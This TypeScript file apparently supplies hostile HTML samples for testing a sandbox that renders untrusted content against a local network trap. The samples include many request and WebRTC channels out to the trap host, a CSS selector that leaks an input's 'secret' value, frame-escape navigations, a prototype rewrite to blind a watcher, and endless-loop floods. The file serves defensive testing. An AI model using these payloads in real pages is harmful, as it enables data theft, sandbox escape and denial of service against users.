import type { NetworkTrap } from './network-trap.ts';

export interface HostileCard {
  readonly name: string;
  readonly html: string;
}

type Trap = Pick<NetworkTrap, 'host' | 'udpPort'>;

/** Every attempt on its own, so that one that throws doesn't spare us the next. */
function attempts(lines: readonly string[]): string {
  return `<script>${lines.map((line) => `try { ${line} } catch (e) { void e }`).join('\n')}</script>`;
}

/** Ways to load or to send something. All at once: what comes through is told apart by its path. */
export function networkCards({ host, udpPort }: Trap): readonly HostileCard[] {
  const url = `http://${host}`;
  return [
    {
      name: 'requests of its scripts',
      html: attempts([
        `fetch('${url}/fetch', { mode: 'no-cors' })`,
        `fetch('${url}/keepalive', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' })`,
        `const x = new XMLHttpRequest(); x.open('GET', '${url}/xhr'); x.send()`,
        `navigator.sendBeacon('${url}/beacon', 'x')`,
        `fetchLater('${url}/later', { activateAfter: 0 })`,
        `new WebSocket('ws://${host}/socket')`,
        `new EventSource('${url}/events')`,
        `new WebTransport('https://${host}/transport')`,
        `new Image().src = '${url}/image'`,
        `new Audio('${url}/audio').play()`,
        `new FontFace('f', 'url(${url}/font)').load()`,
        `import('${url}/module.js').catch(() => 0)`,
        `new Worker('${url}/worker.js')`,
        `new Worker(URL.createObjectURL(new Blob(["fetch('${url}/in-worker', {mode:'no-cors'}); importScripts('${url}/import.js')"])))`,
        `navigator.serviceWorker.register('${url}/service.js')`,
        `new PaymentRequest([{ supportedMethods: '${url}/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).show()`,
      ]),
    },
    {
      name: 'elements that load',
      html: `<img src="${url}/img"><img srcset="${url}/srcset 1x"><picture><source srcset="${url}/source"><img></picture>
<audio src="${url}/audio-tag" autoplay></audio><video src="${url}/video-tag" poster="${url}/poster" autoplay></video>
<video><track src="${url}/track" default></video><input type="image" src="${url}/input">
<link rel="stylesheet" href="${url}/sheet"><link rel="icon" href="${url}/icon"><link rel="manifest" href="${url}/manifest">
<link rel="preload" as="image" href="${url}/preload"><link rel="prefetch" href="${url}/prefetch">
<link rel="modulepreload" href="${url}/modulepreload"><link rel="preconnect" href="${url}">
<link rel="dns-prefetch" href="${url}"><link rel="prerender" href="${url}/prerender">
<script src="${url}/script"></script><script type="module" src="${url}/module"></script>
<svg><image href="${url}/svg-image"/><use href="${url}/use#a"/><script href="${url}/svg-script"></script></svg>
<object data="${url}/object"></object><embed src="${url}/embed"><iframe src="${url}/iframe"></iframe>
<table background="${url}/background"><tr><td>x</table><body background="${url}/body">
<meta http-equiv="Content-Security-Policy" content="img-src *; report-uri ${url}/report">
<base href="${url}/base/"><img src="relative-to-base.png">
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${url}/speculation"]}],"prerender":[{"source":"list","urls":["${url}/speculation"]}]}</script>`,
    },
    {
      name: 'styles that load, letter by letter',
      html: `<style>@import "${url}/import.css"; @font-face { font-family: f; src: url(${url}/face) }
b { background: url(${url}/background.png); font-family: f; list-style-image: url(${url}/list); cursor: url(${url}/cursor), auto;
  border-image: url(${url}/border) 1; mask: url(${url}/mask); content: url(${url}/content); filter: url(${url}/filter#f) }
input[value^="s"] { background-image: image-set("${url}/letter-s" 1x) }</style><b>x</b><input value="secret">`,
    },
    {
      name: 'packets between browsers',
      html: attempts([rtc('window', { host, udpPort })]),
    },
    {
      name: 'packets out of a nested frame',
      html: attempts([
        `const f = document.createElement('iframe'); document.body.append(f); ${rtc('f.contentWindow', { host, udpPort })}`,
      ]),
    },
    // Each alone: a way that succeeds may not be hidden by one that does not.
    ...nestedFrames(`<script>${rtc('window', { host, udpPort })}<\\/script>`).map((line, i) => ({
      name: `packets out of a nested frame, way ${i + 1}`,
      html: attempts([line]),
    })),
  ];
}

function rtc(realm: string, { host, udpPort }: Trap): string {
  return (
    `const pc = new ${realm}.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }, ` +
    `{ urls: 'turn:${host}?transport=tcp', username: 'a', credential: 'b' }] }); ` +
    `pc.createDataChannel('x'); pc.createOffer().then((offer) => pc.setLocalDescription(offer));`
  );
}

/** Frames that load nothing, since they bring their content with them; each in another way. */
function nestedFrames(content: string): readonly string[] {
  const html = JSON.stringify(content.replaceAll('<\\/', '</')).replaceAll('</', '<\\/');
  const srcdoc = `html.replaceAll('&', '&amp;').replaceAll('"', '&quot;')`;
  return [
    `const html = ${html}; const f = document.createElement('iframe'); f.srcdoc = html; document.body.append(f)`,
    `const html = ${html}; document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="' + ${srcdoc} + '"></iframe>')`,
    `const html = ${html}; const f = document.createElement('iframe'); f.src = 'javascript:' + JSON.stringify(html); document.body.append(f)`,
    `const html = ${html}; const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([html], { type: 'text/html' })); document.body.append(f)`,
    `const html = ${html}; const f = document.createElement('iframe'); f.src = 'data:text/html,' + encodeURIComponent(html); document.body.append(f)`,
    `const html = ${html}; const d = document.createElement('div'); const s = d.attachShadow({ mode: 'closed' }); document.body.append(d); s.innerHTML = '<iframe srcdoc="' + ${srcdoc} + '"></iframe>'`,
    `const html = ${html}; const d = document.createElement('div'); d.setHTMLUnsafe('<p><template shadowrootmode="closed"><iframe srcdoc="' + ${srcdoc} + '"></iframe></template></p>'); document.body.append(d)`,
    `const html = ${html}; const d = Document.parseHTMLUnsafe('<p><template shadowrootmode="closed"><iframe srcdoc="' + ${srcdoc} + '"></iframe></template></p>'); document.body.append(document.adoptNode(d.body.firstChild))`,
    `const html = ${html}; const d = new DOMParser().parseFromString('<iframe srcdoc="' + ${srcdoc} + '"></iframe>', 'text/html'); document.body.append(document.adoptNode(d.body.firstChild))`,
    `const html = ${html}; const d = new DOMParser().parseFromString('<html><body><p><template shadowrootmode="open"><iframe srcdoc="' + ${srcdoc} + '"></iframe></template></p></body></html>', 'text/html'); document.body.append(...d.body.childNodes)`,
    `const html = ${html}; const o = document.createElement('object'); o.type = 'text/html'; o.data = 'data:text/html,' + encodeURIComponent(html); document.body.append(o)`,
    `const html = ${html}; document.documentElement.append(Object.assign(document.createElement('frameset'), { innerHTML: '<frame src="javascript:' + ${srcdoc} + '">' }))`,
    // Rewrites what a watcher would use, then tries again.
    `const html = ${html}; Element.prototype.remove = Element.prototype.matches = Element.prototype.querySelectorAll = () => []; Array.prototype.push = () => 0; ` +
      `const f = document.createElement('iframe'); f.srcdoc = html; document.body.append(f)`,
    // Keeps the thread and the queue of small tasks busy meanwhile.
    `const html = ${html}; const f = document.createElement('iframe'); f.srcdoc = html; document.body.append(f); let n = 0; (function again() { if (n++ < 20000) Promise.resolve().then(again) })(); ` +
      `let m = 0; new MutationObserver(() => { if (m++ < 500) document.body.append(f) }).observe(document, { childList: true, subtree: true })`,
    `const html = ${html}; const f = document.createElement('iframe'); f.srcdoc = html; setInterval(() => document.body.append(f), 1)`,
  ];
}

/** Ways to leave the frame, or to open something beside it. */
export function leavingCards({ host }: Trap): readonly HostileCard[] {
  const url = `http://${host}`;
  const script = (code: string): string => `<p>stays</p><script>${code}</script>`;
  return [
    { name: 'location', html: script(`location.href = '${url}/location?secret'`) },
    { name: 'location of the window', html: script(`top.location = '${url}/top'; parent.location = '${url}/parent'`) },
    { name: 'a refresh', html: `<p>stays</p><meta http-equiv="refresh" content="0;url=${url}/refresh">` },
    {
      name: 'a form',
      html: `<p>stays</p><form method="post" target="_top" action="${url}/form"><input name="a" value="b"></form><script>document.forms[0].submit(); document.forms[0].requestSubmit()</script>`,
    },
    {
      name: 'links that press themselves',
      html: `<p>stays</p><a id="a" href="${url}/self" ping="${url}/ping">x</a><a id="b" href="${url}/blank" target="_blank">x</a><a id="c" href="${url}/top" target="_top">x</a><a id="d" href="image.png" download>x</a><a id="e" href="data:text/plain,x" download="x.txt">x</a><script>for (const id of 'abcde') document.getElementById(id).click()</script>`,
    },
    { name: 'new windows', html: script(`for (let i = 0; i < 5; i += 1) window.open('${url}/open', '_blank')`) },
    { name: 'a page of its own in its place', html: script(`location.href = 'page.html'`) },
    { name: 'loading itself anew', html: script('location.reload()') },
    { name: 'going back', html: script('history.back(); history.go(-1); navigation?.back()') },
    { name: 'a script as address', html: script(`location.href = "javascript:'<h1>gone</h1>'"`) },
    {
      name: 'writing a new document',
      html: script(`document.open(); document.write('<h1>gone</h1>'); document.close()`),
    },
    { name: 'removing everything', html: script('document.documentElement.remove(); window.stop()') },
  ];
}

/** Scripts that leave nobody else a turn. */
export const greedyCards: readonly HostileCard[] = [
  { name: 'an endless loop', html: '<p>stays</p><script>for (;;);</script>' },
  { name: 'an endless loop later', html: '<p>stays</p><script>setTimeout(() => { for (;;); }, 300)</script>' },
  {
    name: 'endless small tasks',
    html: '<p>stays</p><script>(function again() { Promise.resolve().then(again) })()</script>',
  },
  {
    name: 'a flood of messages',
    html: '<p>stays</p><script>setInterval(() => { for (let i = 0; i < 500; i += 1) parent.postMessage("x".repeat(1000), "*") }, 1)</script>',
  },
  {
    name: 'a flood of questions',
    html: '<p>stays</p><script>setInterval(() => { alert(1); confirm(2); prompt(3); print(); }, 1)</script>',
  },
  {
    name: 'a flood of errors',
    html: '<p>stays</p><script>setInterval(() => { Promise.reject(new Error("x".repeat(1000))); throw 1 }, 1)</script>',
  },
  {
    name: 'a document that grows without end',
    html: '<p>stays</p><script>for (;;) document.body.append(document.createElement("b"))</script>',
  },
];
